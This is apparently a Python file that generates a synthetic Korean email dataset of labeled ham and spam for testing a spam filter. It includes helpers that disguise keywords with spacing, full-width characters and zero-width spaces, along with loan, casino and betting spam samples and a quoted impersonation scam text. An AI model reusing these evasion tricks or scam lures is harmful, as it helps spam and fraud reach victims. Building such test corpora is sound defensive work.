M('ham', '사촌이 부모님 칠순 잔치 준비 회비 분담을 정리해 공유 (naver, 숫자·계좌 언급)',
  frm=('장현석', 'hs_jang77@naver.com'), to=[PM, ('장미라', 'mira.jang@seoul-clinic.test'), ('장동훈', 'donghoon_j@haneul-mail.test')],
  prov='naver', when=(9, 30, 22, 48),
  subj='큰아버지 칠순 잔치 준비 건 (비용 정리)',
  text='''누나, 형 다들 잘 지내지?

지난번 통화한 대로 큰아버지 칠순 잔치 준비 상황 정리해서 보내.

- 날짜: 11월 7일(토) 저녁 6시
- 장소: 수원 "한정식 솔" 별관 (40명 예약)
- 식대: 1인 55,000원 x 40명 = 2,200,000원
- 떡, 꽃, 현수막, 사진: 약 450,000원
- 큰아버지 선물(안마의자 대신 여행상품권): 1,000,000원

총 3,650,000원 예상이고, 사촌 네 집이 나눠서 집당 약 91만원씩이야.
예약금 30만원은 내가 먼저 냈어.
나머지는 10월 말까지 나한테 보내주면 한 번에 정산할게. 계좌는 가족 단톡방에 올려둘게.

큰어머니는 서프라이즈로 하고 싶다고 하셨으니 큰아버지한테는 비밀!

현석
''')

M('ham', '대학 친구가 아이폰으로 안부와 함께 캠핑 사진(PNG) 두 장을 보냄',
  frm=('류지호', 'jiho.ryu@icloud.com'), to=[HW], prov='iphone', when=(10, 25, 21, 58),
  subj='지난주 캠핑 사진',
  text='''현우야 지난주 캠핑 사진 이제야 보낸다
니가 찍어준 거 진짜 잘 나왔더라 ㅋㅋ
다음엔 애들 데리고 1박 더 하자

iPhone에서 보냄
''',
  atts=[PNG('IMG_4821.PNG', png_photo('camp1', 180, 120)), PNG('IMG_4826.PNG', png_photo('camp2', 180, 120))])

M('ham', '시어머니가 며느리에게 반찬 택배를 보냈다며 송장번호를 알려주는 메일 (daum, EUC-KR) - 택배 피싱과 유사한 정상',
  frm=('어머니', 'kim_okhee49@hanmail.net'), to=[PM], prov='daum', cs='euc-kr', when=(11, 19, 19, 3),
  subj='반찬 보냈다',
  text='''미경아 어머니다

오늘 우체국 가서 반찬 보냈다
김치하고 깻잎장아찌 멸치볶음 들었다
송장번호는 6091 4***** 0287 이라고 하더라
내일이나 모레 도착한다고 하니 받으면 바로 냉장고에 넣어라

서준이 감기는 좀 나았냐
추운데 애들 옷 따뜻하게 입혀라

어머니가
''')

M('ham', '대학 친구가 참석 못 하는 결혼식 축의금 대신 전달을 부탁하며 계좌 확인 (gmail, 돈 관련 어휘 많음)',
  frm=('권나윤', 'nayoon.kwon@gmail.com'), to=[YR], prov='gmail', when=(11, 18, 12, 27),
  subj='다은이 결혼식 축의금 부탁해도 될까 ㅠㅠ',
  text='''예린아 나 나윤이!

다은이 결혼식이 이번 주 토요일이잖아.
나 그날 출장 때문에 부산에 있어서 도저히 못 갈 것 같아 ㅠㅠ
미안한데 내 축의금 너가 대신 내줄 수 있을까?

지금 너 토스로 10만원 보냈어. 확인해 봐!
봉투에 "권나윤" 이름만 써주면 돼.
다은이한테는 내가 따로 연락했어.

다음에 맛있는 거 살게!! 고마워 💕
''')

M('ham', '할머니 팔순 모임 장소 변경과 식대 분담 안내 - 짧은 가족 메일 (naver, EUC-KR 아님)',
  frm=('서민재', 'minjae.seo87@gmail.com'), to=[YR, ('서지민', 'jimin.seo@mirae-edu.test')], prov='gmail', when=(9, 12, 18, 3),
  subj='할머니 팔순 식당 바뀜!',
  text='''누나들, 할머니 팔순 식당 바뀌었어.

원래 예약한 데가 갑자기 공사한다고 해서
같은 날(9/26 토) 같은 시간(12시)에 "청기와 한정식 본점"으로 옮겼어.
주소는 문자로 보낼게.

식대는 그대로 우리 셋이 나눠서 내는 걸로 하고, 금액 확정되면 다시 알려줄게.
케이크는 지민 누나가 준비해 주기로 한 거 맞지?
''')

# ---- jobs -----------------------------------------------------------------
M('ham', '구직자가 채용 공고에 이력서(PDF)와 포트폴리오(ZIP)를 첨부해 지원 (gmail)',
  frm=('오지수', 'jisoo.oh.dev@gmail.com'), to=[('한빛테크 채용담당자', 'recruit@hanbit-tech.example')], prov='gmail',
  when=(9, 15, 9, 12),
  subj='[지원] 백엔드 개발자(경력 3년 이상) - 오지수',
  text='''안녕하세요, 한빛테크 채용 담당자님.

백엔드 개발자(경력 3년 이상) 포지션에 지원하는 오지수입니다.
원티드 공고를 보고 회사 홈페이지 안내에 따라 메일로 지원드립니다.

저는 헬스케어 스타트업에서 4년간 예약·결제 시스템 백엔드(Java/Spring, Kotlin)를 개발했고,
최근 1년은 병원 EMR 연동 API와 개인정보 비식별화 파이프라인을 담당했습니다.
귀사의 병원용 예약 솔루션에 제 경험이 바로 도움이 될 수 있다고 생각해 지원하게 되었습니다.

첨부 파일
1. 이력서_오지수.pdf
2. 포트폴리오_오지수.zip (아키텍처 문서, 발표 자료)

검토해 주셔서 감사합니다. 연락 기다리겠습니다.

오지수 드림
010-2894-****
''',
  atts=[PDF('이력서_오지수.pdf', ['RESUME - OH JISOO', 'Backend Engineer (4 yrs)', 'Java / Spring / Kotlin / PostgreSQL',
                                 'Healthcare booking & payment systems']),
        ZIP('포트폴리오_오지수.zip', [('architecture_overview.pdf', make_pdf(['Architecture overview'])),
                                  ('발표자료_EMR연동.pdf', make_pdf(['EMR integration talk']))])])

M('ham', '경력 전환 구직자가 한글(HWP) 이력서와 자기소개서를 보내는 정중한 지원 메일 (naver)',
  frm=('강명수', 'ms_kang1978@naver.com'), to=[('진주식품 인사담당', 'hr@jinju-foods.example')], prov='naver',
  when=(10, 19, 7, 55),
  subj='생산관리직 지원서 제출합니다 (강명수)',
  text='''안녕하십니까.
잡코리아 채용공고를 보고 생산관리직에 지원하는 강명수입니다.

식품 제조업체에서 18년간 생산·품질관리 업무를 해왔으며,
HACCP 팀장과 설비 개선 업무 경험이 있습니다.
이력서와 자기소개서를 한글 파일로 첨부하였습니다.

바쁘신 중에 검토해 주셔서 감사합니다.

강명수 올림
010-6612-****
''',
  atts=[HWP('이력서_강명수.hwp', ['이 력 서', '성명 강명수', '경력 식품제조 생산관리 18년', 'HACCP 팀장']),
        HWP('자기소개서_강명수.hwp', ['자기소개서', '지원동기', '직무 관련 경험', '입사 후 포부'])])

M('ham', '채용 플랫폼(원티드)의 포지션 제안 알림 메일',
  frm=('원티드', 'noreply@wanted.co.kr'), to=[DY], prov='sendgrid', when=(10, 22, 11, 40),
  subj='[원티드] 도윤님께 새로운 포지션 제안이 도착했어요',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:15px;">
<div style="max-width:560px;margin:0 auto;line-height:1.7;">
<p style="color:#36f;font-weight:bold;">wanted</p>
<p>김도윤님, <b>(주)메디코어</b>에서 포지션을 제안했어요.</p>
<div style="border:1px solid #eee;border-radius:10px;padding:16px;">
<p style="margin:0;"><b>Senior Backend Engineer (의료 데이터 플랫폼)</b><br>서울 강남구 · 경력 7년 이상<br>제안 연봉: 협의 (면접 후 결정)</p>
<p style="margin:8px 0 0;color:#555;">"병원 EMR 연동 경험이 인상적이었습니다. 편하게 커피챗 한번 하실까요?"</p>
</div>
<p><a href="https://www.wanted.co.kr/profile/matching/offers">제안 확인하기</a> (7일 이내 응답하지 않으면 자동 만료돼요)</p>
<p style="font-size:12px;color:#999;">(주)원티드랩 | 이 메일은 이력서 공개 및 제안 수신에 동의하신 회원께 발송됩니다.</p>
</div></body></html>
''')

M('ham', '사람인을 통한 면접 제안 - 면접 일정 선택 링크 (saramin.co.kr, EUC-KR)',
  frm=('사람인', 'help@saramin.co.kr'), to=[HW], prov='inhouse', cs='euc-kr', mailer=None, selector='srm',
  when=(11, 10, 15, 20),
  subj='[사람인] (주)미래에듀에서 면접을 제안했습니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="600" cellpadding="14" style="font-family:'맑은 고딕';font-size:13px;border:1px solid #e5e5e5;">
<tr><td style="color:#4876ef;font-size:18px;"><b>saramin</b></td></tr>
<tr><td style="line-height:1.8;">류현우님, 입사지원하신 기업에서 면접을 제안했습니다.<br><br>
기업명 : (주)미래에듀<br>공고명 : 중등 수학 전임강사 모집 (주 5일)<br>면접 형태 : 대면 면접 + 시범강의<br><br>
사람인 로그인 후 [지원 현황]에서 면접 일정을 선택해 주세요.<br>
<span style="font-size:11px;color:#888;">사람인은 채용 과정에서 지원자에게 교육비, 장비 대금 등을 요구하는 기업을 제재하고 있습니다. 금전 요구 시 신고해 주세요.</span>
</td></tr></table></body></html>
''')

M('ham', '회사 인사팀이 지원자에게 보내는 불합격 안내 (정중한 거절, m365)',
  frm=MJ, to=[('정하람', 'haram.jung@haneul-mail.test')], prov='m365', when=(10, 30, 17, 10),
  subj='[한빛테크] 서류전형 결과 안내드립니다',
  text='''정하람 님께,

먼저 (주)한빛테크 UX 디자이너 채용에 관심을 가지고 지원해 주셔서 진심으로 감사드립니다.

지원서를 신중하게 검토하였으나, 아쉽게도 이번 채용에서는 함께하지 못하게 되었음을 알려드립니다.
이번 결과가 지원자님의 역량이 부족함을 의미하는 것은 아니며, 포지션 요건과의 적합도를 중심으로 판단한 결과임을 양해 부탁드립니다.

제출하신 지원 서류는 채용절차의 공정화에 관한 법률에 따라 채용 여부 확정 후 14일 이내에 반환을 청구하실 수 있으며,
청구가 없을 경우 180일 후 파기됩니다.

앞으로 더 좋은 기회로 다시 뵙기를 바랍니다.

(주)한빛테크 인사팀 드림
''')

M('ham', '헤드헌터가 재무팀장에게 포지션을 제안하며 통화 가능 시간을 묻는 메일 (invented 서치펌, Outlook)',
  frm=('이든서치 배주연 이사', 'jy.bae@eden-search.example'), to=[JH], prov='outlook', when=(9, 9, 10, 5),
  subj='[이든서치] 코스닥 상장 헬스케어 기업 재무팀장(CFO 후보) 포지션 제안',
  text='''박준호 팀장님, 안녕하세요.
헤드헌팅사 이든서치 배주연 이사입니다.

갑작스럽게 연락드려 실례가 많습니다.
링크드인 프로필을 보고 적합한 포지션이 있어 조심스럽게 제안드립니다.

- 회사: 코스닥 상장 헬스케어 IT 기업 (매출 약 800억, 임직원 350명)
- 포지션: 재무팀장 (2~3년 내 CFO 승계 후보)
- 주요 업무: 결산·공시, IR, 자금 운용, 내부회계관리제도
- 처우: 현 연봉 대비 상향 협의, 스톡옵션 별도

회사명은 비밀유지 조건상 통화 후 말씀드릴 수 있는 점 양해 부탁드립니다.
관심 있으시면 이번 주 중 편하신 시간 알려주시면 10분 정도 통화 요청드리겠습니다.

배주연 드림
이든서치 | 파트너 | 010-8820-****
''')

# ---- security alerts from real services ----------------------------------
M('ham', '네이버 새로운 환경 로그인 알림 (naver.com, 본인 로그인)',
  frm=('네이버', 'navermail_noreply@navercorp.com'), to=[YR], prov='inhouse', cs='UTF-8', mailer=None, selector='s20171208',
  when=(11, 5, 8, 47),
  subj='[네이버] 새로운 환경에서 로그인되었습니다.',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:'Nanum Gothic',sans-serif;font-size:14px;color:#333;">
<div style="max-width:600px;margin:0 auto;border:1px solid #e5e5e5;padding:30px;">
<p style="color:#03c75a;font-size:20px;font-weight:bold;">NAVER</p>
<p>yer***님의 네이버 아이디가 새로운 환경에서 로그인되었습니다.</p>
<table style="font-size:13px;">
<tr><td style="color:#888;padding:3px 12px 3px 0;">일시</td><td>2026.11.05. 08:46</td></tr>
<tr><td style="color:#888;padding:3px 12px 3px 0;">기기</td><td>Windows / Chrome</td></tr>
<tr><td style="color:#888;padding:3px 12px 3px 0;">위치</td><td>대한민국 (IP 198.51.100.77)</td></tr>
</table>
<p>본인이 로그인한 것이라면 이 메일을 무시하셔도 됩니다.<br>본인이 아닌 경우 네이버 앱 또는 네이버 홈페이지에서 직접 [내정보 &gt; 보안설정]으로 이동하여 비밀번호를 변경해 주세요.</p>
<p style="font-size:12px;color:#999;">이 메일은 발신전용입니다. 네이버는 메일 본문 링크로 비밀번호 입력을 요구하지 않습니다.</p>
</div></body></html>
''')

M('ham', '카카오계정 비밀번호 변경 완료 알림 (kakaocorp.com)',
  frm=('카카오', 'noreply@kakaocorp.com'), to=[HW], prov='ses', when=(10, 2, 23, 12),
  subj='[카카오] 카카오계정 비밀번호가 변경되었습니다',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;font-size:14px;">
<div style="max-width:560px;margin:0 auto;padding:24px;">
<p style="background:#fee500;padding:10px;font-weight:bold;">kakao</p>
<p>hwr***@haneul-mail.test 계정의 비밀번호가 변경되었습니다.</p>
<p>변경 일시: 2026년 10월 2일 23:11<br>변경 환경: iOS / 카카오톡</p>
<p>본인이 변경하지 않았다면 카카오 고객센터(1577-3754) 또는 카카오계정 도움말에서 계정 보호 조치를 진행해 주세요.</p>
<p style="font-size:12px;color:#999;">(주)카카오 | 제주특별자치도 제주시 첨단로 242</p>
</div></body></html>
''')

M('ham', 'Google 계정 보안 알림 - 새 기기 로그인 (accounts.google.com, 한국어)',
  frm=('Google', 'no-reply@accounts.google.com'), to=[DY], prov='inhouse', cs='UTF-8', cte='quoted-printable',
  mailer=None, selector='20230601', out_host='mail-sor-f69.google.com', when=(9, 27, 14, 2),
  subj='보안 알림',
  html='''<html lang="ko"><head><meta charset="{CHARSET}"></head><body style="margin:0;background:#fff;">
<div style="max-width:516px;margin:0 auto;border:1px solid #dadce0;border-radius:8px;padding:40px 20px;font-family:'Google Sans',Roboto,sans-serif;text-align:center;">
<p style="font-size:24px;">새 기기에서 로그인됨</p>
<p style="font-size:14px;">doyoon.kim@hanbit-tech.example</p>
<hr style="border:0;border-top:1px solid #dadce0;">
<p style="font-size:14px;text-align:left;color:#3c4043;">Mac 기기에서 Google 계정에 새로 로그인되었습니다. 이 메일을 받은 이유는 계정에서 새 기기가 감지되었기 때문입니다. 본인이 맞다면 아무것도 하지 않아도 됩니다. 본인이 아니라면 계정을 보호하도록 도와드리겠습니다.</p>
<p><a href="https://accounts.google.com/AccountChooser?Email=doyoon.kim@hanbit-tech.example&continue=https://myaccount.google.com/alert/nt/1790489000000?rfn%3D325" style="background:#1a73e8;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none;">활동 확인</a></p>
<p style="font-size:12px;color:#5f6368;">https://myaccount.google.com/notifications 에서도 보안 활동을 확인할 수 있습니다.</p>
</div>
<p style="text-align:center;font-size:11px;color:#5f6368;">Google 계정 및 서비스의 중요한 변경사항을 알려드리기 위해 발송된 이메일입니다.<br>&copy; 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</p>
</body></html>
''')

M('ham', 'Apple 구독 결제 영수증 (apple.com, iCloud+ 월 요금)',
  frm=('Apple', 'no_reply@email.apple.com'), to=[YR], prov='inhouse', cs='UTF-8', cte='quoted-printable', mailer=None,
  selector='email0517', out_host='rn2-txn-msbadger07104.apple.com', when=(10, 16, 3, 18),
  subj='Apple으로부터 받은 영수증입니다.',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:-apple-system,'Apple SD Gothic Neo',sans-serif;">
<div style="max-width:640px;margin:0 auto;font-size:13px;color:#333;">
<p style="font-size:28px;font-weight:600;">영수증</p>
<table style="width:100%;font-size:12px;"><tr><td>APPLE 계정<br>yerin.seo@haneul-mail.test</td><td>청구일<br>2026. 10. 16.</td><td>주문 번호<br>MQ8L2TX4VZ</td></tr></table>
<hr>
<p><b>iCloud+</b><br>iCloud+ 200GB (월간)<br>2026. 11. 15.에 갱신</p>
<p style="text-align:right;">₩4,400</p>
<hr><p style="text-align:right;"><b>합계 ₩4,400</b> (부가가치세 포함)</p>
<p style="font-size:11px;color:#888;">구독을 관리하거나 취소하려면 기기의 설정 &gt; [사용자 이름] &gt; 구독으로 이동하십시오.<br>Apple Distribution International Ltd.</p>
</div></body></html>
''')

M('ham', '토스 새 기기 로그인 및 본인확인 완료 알림 (toss.im)',
  frm=('토스', 'no-reply@toss.im'), to=[GS], prov='ses', when=(11, 14, 22, 39),
  subj='새로운 기기에서 토스에 로그인했어요',
  html='''<html><head><meta charset="{CHARSET}"></head><body style="font-family:sans-serif;">
<div style="max-width:480px;margin:0 auto;padding:28px;font-size:15px;line-height:1.7;color:#191f28;">
<p style="font-size:20px;font-weight:700;">새로운 기기에서 로그인했어요</p>
<p>기석님, Galaxy S25 기기에서 토스 로그인과 본인확인이 완료됐어요.</p>
<p style="color:#6b7684;">2026년 11월 14일 오후 10:38</p>
<p>본인이 아니라면 지금 바로 토스 앱 &gt; 전체 &gt; 보안 &gt; 로그인 기기 관리에서 해당 기기를 로그아웃하고, 고객센터(1599-4905)로 알려주세요.</p>
<p style="font-size:12px;color:#8b95a1;">토스는 전화나 메신저로 인증번호나 비밀번호를 물어보지 않아요.</p>
</div></body></html>
''')

M('ham', 'Microsoft 계정 보안 코드 메일 (account.microsoft.com, 영문 섞인 한국어)',
  frm=('Microsoft 계정 팀', 'account-security-noreply@accountprotection.microsoft.com'), to=[JH], prov='inhouse',
  cs='UTF-8', cte='quoted-printable', mailer=None, selector='selector1', out_host='mail-sgaapc01on2072.outbound.protection.outlook.com',
  when=(10, 20, 9, 14), fmt='alt',
  subj='Microsoft 계정 보안 코드',
  text='''Microsoft 계정

보안 코드

junho.park@hanbit-tech.example Microsoft 계정에 다음 보안 코드를 사용하세요.

보안 코드: 481936

이 코드를 요청하지 않은 경우 이 메일을 무시하셔도 됩니다. 다른 사람이 실수로 회원님의 메일 주소를 입력했을 수 있습니다.

감사합니다.
Microsoft 계정 팀
''')

# ---- scam warnings, events, misc ----------------------------------------
M('ham', '친구가 받은 가족사칭 문자를 그대로 인용해 "이거 사기 맞지?"라고 묻는 메일 (gmail)',
  frm=('권나윤', 'nayoon.kwon@gmail.com'), to=[YR], prov='gmail', when=(10, 30, 9, 47),
  subj='이거 피싱 맞지?? 우리 엄마한테 온 문자래',
  text='''예린아 너 은행 다니는 언니 있다고 했지?
우리 엄마가 어제 이런 문자를 받았는데 이거 딱 봐도 사기 맞지?
엄마가 거의 보낼 뻔 했다가 나한테 물어봐서 다행히 안 보냈어 ㅠㅠ

----- 엄마가 캡처해서 보내준 문자 -----
엄마 나야 폰 액정이 깨져서 수리 맡기고 임시폰으로 연락해
지금 급하게 온라인으로 결제할게 있는데 인증이 안돼서
엄마 폰으로 인증 좀 해줄수 있어? 이 번호로 카톡 추가해줘
--------------------------------------

나는 폰 멀쩡하고 엄마한테 저런 말투로 얘기 안 하거든 ㅋㅋ
혹시 어디 신고해야 하는 거면 알려줘. 118인가?
''')

M('ham', '학회 추계학술대회 사전등록과 등록비 입금 안내 (invented 학회 도메인, EUC-KR)',
  frm=('한국의료정보학회 사무국', 'office@kmis-society.example'), to=[SM], prov='groupware', cs='euc-kr', when=(10, 5, 10, 30),
  subj='[한국의료정보학회] 2026 추계학술대회 사전등록 안내 (10/23 마감)',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<div style="width:640px;font-family:'맑은 고딕';font-size:13px;line-height:1.8;">
<p style="font-size:17px;color:#0b5394;"><b>2026 한국의료정보학회 추계학술대회</b></p>
<p>주제 : 생성형 AI 시대의 진료 현장과 의료정보<br>
일시 : 2026년 11월 6일(금) ~ 7일(토)<br>장소 : 서울 코엑스 컨퍼런스룸 3층</p>
<table border="1" cellspacing="0" cellpadding="4" style="border-collapse:collapse;font-size:12px;">
<tr bgcolor="#eeeeee"><th>구분</th><th>사전등록(~10/23)</th><th>현장등록</th></tr>
<tr><td>정회원</td><td>100,000원</td><td>130,000원</td></tr>
<tr><td>비회원</td><td>150,000원</td><td>180,000원</td></tr>
<tr><td>전공의·학생</td><td>50,000원</td><td>70,000원</td></tr>
</table>
<p>등록은 학회 홈페이지에서 온라인으로 하시고, 등록비는 카드 결제 또는 학회 명의 계좌로 입금해 주십시오.<br>
계산서 발행이 필요하신 기관은 사업자등록증을 사무국 메일로 보내주시기 바랍니다.<br>
대한의사협회 연수평점 6점이 인정될 예정입니다.</p>
<p style="font-size:11px;color:#777;">한국의료정보학회 사무국 | 02-2072-****</p>
</div></body></html>
''')

M('ham', '팀 동료의 부친상 조의금을 팀 단위로 모으는 내부 메일 (Outlook, 계좌·금액 언급)',
  frm=('백아름', 'areum.baek@hanbit-tech.example'), to=[SY, DY, ('조민혁', 'minhyuk.jo@hanbit-tech.example')],
  prov='outlook', when=(10, 9, 10, 40),
  subj='[영업팀] 최영호 부장님 부친상 조의금 안내',
  text='''팀원 여러분,

기술지원팀 최영호 부장님께서 어제 부친상을 당하셨습니다.
팀 차원에서 조의금을 모아 전달하려고 합니다.

- 금액: 자율 (보통 3~5만원)
- 전달: 오늘 저녁 7시 혜원 팀장님과 제가 빈소(서울성모병원 장례식장) 방문 예정
- 모금: 오후 5시까지 저에게 현금으로 주시거나 사내 메신저로 말씀 주시면 제가 먼저 내고 나중에 받겠습니다

직접 조문 가실 분은 같이 가셔도 됩니다.
회사 경조금은 총무팀에서 별도로 지급됩니다.

백아름 드림
''')

M('ham', 'KOTRA 유사 공공기관(invented)의 수출상담회 참가 기업 모집 안내 - 무료, 신청 링크',
  frm=('K-푸드수출지원센터', 'export@kfood-export.example'), to=[HJ], prov='ses', when=(9, 3, 14, 0),
  subj='[모집] 2026 하반기 K-푸드 해외바이어 초청 수출상담회 참가기업 모집',
  html='''<html><head><meta charset="{CHARSET}"></head><body>
<div style="max-width:620px;margin:0 auto;font-family:sans-serif;font-size:14px;line-height:1.7;">
<p style="font-size:18px;font-weight:bold;">2026 하반기 K-푸드 해외바이어 초청 수출상담회</p>
<p>동남아·중동 바이어 40개사를 초청하여 국내 식품 중소기업과의 1:1 수출상담회를 개최합니다.</p>
<ul><li>일시: 2026년 10월 15일(목) 10:00~17:00</li><li>장소: aT센터 제2전시장</li>
<li>모집: 가공식품 중소기업 60개사 (선착순 아님, 바이어 매칭 심사)</li><li>참가비: 무료 (통역 지원)</li></ul>
<p>신청 기간: 9월 3일 ~ 9월 18일<br>신청: <a href="https://www.kfood-export.example/apply/2026-2">온라인 신청서 작성</a></p>
<p style="font-size:12px;color:#888;">문의: 수출지원팀 02-6300-**** | 본 메일은 센터 회원사에 발송되는 사업 안내입니다.</p>
</div></body></html>
''')

M('ham', '퇴사하는 동료의 작별 인사 메일 - 개인 연락처(개인 메일, 전화) 공유',
  frm=('조민혁', 'minhyuk.jo@hanbit-tech.example'), to=[('한빛테크 전직원', 'all@hanbit-tech.example')],
  rcpt='seoyeon.lee@hanbit-tech.example', prov='outlook', when=(11, 27, 17, 30),
  subj='그동안 감사했습니다 - 조민혁 드림',
  text='''안녕하세요, 영업팀 조민혁입니다.

오늘을 마지막으로 한빛테크를 떠나게 되었습니다.
입사한 지 3년 8개월, 처음 고객사 미팅에서 말도 제대로 못 하던 저를
여기까지 키워주신 혜원 팀장님, 서연 과장님, 그리고 항상 기술적인 질문에
친절하게 답해주신 개발팀 분들께 정말 감사드립니다.

다음 달부터는 부산에서 가족 사업을 돕게 되었습니다.
부산 오실 일 있으면 꼭 연락 주세요. 돼지국밥은 제가 사겠습니다.

개인 메일: minhyuk.jo.bs@gmail.com
휴대폰: 010-7720-****

모두 건강하시고, 한빛테크의 번창을 응원하겠습니다.

조민혁 드림
''')


# ===========================================================================
# SPAM - all domains, URLs, phone numbers, messenger IDs are invented
# ===========================================================================
def sp(s):        # spaced syllables
    return ' '.join(s)


def dot(s, d='.'):
    return d.join(s)


def fw(s):        # full-width ASCII
    return ''.join(chr(ord(c) + 0xFEE0) if '!' <= c <= '~' else ('\u3000' if c == ' ' else c) for c in s)


def zw(s):        # zero-width spaces between characters
    return '\u200b'.join(s)


V = [('', 'kim.jiyoung@hanul-design.test'), ('', 'smbae@seoul-clinic.test'), ('', 'gskwon@haneul-mail.test'),
     ('', 'junho.park@hanbit-tech.example'), ('', 'hwryu@haneul-mail.test'), ('', 'ceo@jinju-foods.example'),
     ('', 'yerin.seo@haneul-mail.test'), ('', 'hyerin.shin@mirae-edu.test'), ('', 'oh.kwon@sejong-tax.example'),
     ('', 'doyoon.kim@hanbit-tech.example'), ('', 'mkjang@haneul-mail.test'), ('', 'ey.jo@seoul-clinic.test')]


def v(i):
    return [V[i % len(V)]]


M('spam', '무직자·저신용 당일 대출 광고, 음절 띄어쓰기 난독화, 카톡 ID, (광고) 표기 없음 (EUC-KR, 일회용 도메인)',
  frm=('미소크레딧', 'help@miso-credit77.xyz'), to=v(0), prov='vps', cs='euc-kr', cte='base64',
  subj='무 직 자 / 저 신 용 ' + sp('당일') + ' 승인 가능합니다',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<div style="font-size:15px;font-family:굴림;">
<p><b><font color="#d00000">''' + sp('무직자') + ''' / 주부 / 프리랜서 / ''' + sp('저신용') + '''</font></b></p>
<p>타 업체 거절 고객도 OK<br>
''' + sp('대출') + ''' 한도 최대 3,000만원 &nbsp; ''' + sp('당일') + ''' 입 금<br>
신용점수 조회 기록 남지 않습니다 (무방문 / 무서류)</p>
<p>☎ 상담 : 070-8614-2290 &nbsp; 카톡 : <b>miso7788</b></p>
<p><a href="http://miso-credit77.xyz/apply?src=m1102">▶ 30초 한도 조회 바로가기</a></p>
<p style="font-size:11px;color:#999;">수신을 원치 않으시면 회신 바랍니다.</p>
</div></body></html>
''')

M('spam', '(광고) 표기를 단 "정부지원 서민대출" 위장 대출 중개 광고, 대부업 등록번호 흉내 (ks_c_5601-1987, Outlook Express 흉내)',
  frm=('서민금융지원센터', 'center@seomin-loan-guide.com'), to='undisclosed-recipients:;', rcpt='mkjang@haneul-mail.test',
  prov='massmail', cs='ks_c_5601-1987',
  subj='(광고) [정부지원] 2026년 하반기 서민 생계자금 특별 접수 안내',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<table width="560" border="0" cellpadding="10" style="border:3px solid #1f4e9e;font-family:돋움;font-size:13px;">
<tr><td style="background:#1f4e9e;color:#fff;font-size:17px;"><b>서민 생계자금 특별 접수</b></td></tr>
<tr><td style="line-height:1.8;">
연 이율 최저 3.9% ~ / 최대 5,000만원<br>
직장인 4대보험 3개월 이상 가입자 누구나 신청 가능<br>
<b>11월 30일 마감</b> (한정 예산 소진 시 조기 마감)<br><br>
&nbsp;- 기존 고금리 대출 대환 가능<br>
&nbsp;- 신용점수 600점 이하도 상담 가능<br><br>
상담 신청 : <a href="http://seomin-loan-guide.com/form.php">http://seomin-loan-guide.com/form.php</a><br>
대표번호 : 1811-94**<br><br>
<font size="1" color="#888">대부중개업 등록번호 2026-서울강남-0*** / 중개수수료를 요구하거나 받는 것은 불법입니다.<br>
과도한 빚은 당신에게 큰 불행을 안겨줄 수 있습니다. 수신거부는 회신 주시면 처리됩니다.</font>
</td></tr></table></body></html>
''')

M('spam', '사업자 운영자금 대출 스팸을 해킹된 것으로 보이는 개인 포털 계정으로 발송 (daum, 평문)',
  frm=('김성훈', 'shkim_1972@hanmail.net'), to=v(5), prov='daum', cs='euc-kr', fmt='plain',
  subj='사장님 운영자금 필요하시면 연락주세요',
  text='''사장님 안녕하세요

개인사업자 / 법인 운영자금 빠르게 해결해 드립니다
매출 있으시면 신용 낮아도 진행됩니다

- 카드매출 담보 선정산 (당일 지급)
- 사업자 신용대출 최대 1억
- 기존 대출 많아도 상담 가능

문의 010-5902-7731 (문자 주시면 바로 연락드립니다)
텔레그램 @bizfund_kr

필요 없으시면 죄송합니다
''')

M('spam', '"개인돈" 저신용 급전 대출, 텔레그램 유도, 초성/자모 섞기, 아주 짧은 본문 (UTF-8 8bit)',
  frm=('급전', 'no-reply@pdn-fast9.top'), to=v(6), prov='vps', cte='8bit', fmt='plain',
  subj='ㄱㅐ인ㄷㅗㄴ 당일 50~500 가능',
  text='''신불자 연체자 ㄱㅐ인ㄷㅗㄴ 가능
50만~500만 당일 바로
선입금 요구 절대 없음

텔레그램 @money_quick77
''')

M('spam', '온라인 카지노 가입 유도, 전각 문자(ＶＩＰ)·점 찍기 난독화, 가입 머니, 단축 URL (UTF-8 HTML)',
  frm=('VIP Club', 'event@lux-vip-club88.top'), to=v(1), prov='vps', cs='UTF-8',
  subj=fw('VIP') + ' 라이브 ' + dot('카지노') + ' 신규 가입 즉시 3만 포인트',
  html='''<html><body style="background:#000;color:#f5d76e;font-family:sans-serif;text-align:center;">
<h2>''' + fw('VIP') + ''' 라이브 ''' + dot('카지노') + '''</h2>
<p style="font-size:18px;">신규 가입 즉시 <b>30,000P</b> 지급<br>첫 충전 <b>30%</b> / 매 충전 <b>10%</b></p>
<p>''' + dot('바카라') + ''' · ''' + dot('블랙잭') + ''' · 룰렛 24시간 실시간 딜러</p>
<p>입출금 3분 이내 · 먹튀 없는 메이저 보증</p>
<p><a href="https://go-lnk.top/Vx9pQ" style="color:#000;background:#f5d76e;padding:12px 30px;text-decoration:none;font-weight:bold;">지금 입장하기</a></p>
<p style="font-size:12px;">가입코드 : <b>ＧＯＬＤ７７</b></p>
</body></html>
''')

M('spam', '스포츠 토토 사설 사이트 첫충 이벤트, 텔레그램 상담, 도메인 자주 바뀜 안내 (EUC-KR, QP)',
  frm=('승부사 토토', 'support@winner-toto-kr.shop'), to=v(2), prov='vps', cs='euc-kr', cte='quoted-printable',
  subj='[승부사] 해외축구 배당 1.95 / 첫충 20% 이벤트',
  html='''<html><head><meta http-equiv="Content-Type" content="text/html; charset={CHARSET}"></head><body>
<div style="width:520px;background:#0d1b2a;color:#fff;padding:20px;font-family:돋움;">
<p style="font-size:20px;color:#ffd60a;"><b>승부사 스포츠</b></p>
<p>프리미어리그 / 라리가 / NBA / KBO<br>단폴 가능 · 배당 업계 최고 1.95</p>
<p>&#9733; 첫 충전 20% &nbsp; &#9733; 매충 10% &nbsp; &#9733; 지인 추천 5%</p>
<p>※ 도메인이 자주 변경됩니다. 최신 주소는 텔레그램으로 문의하세요.<br>
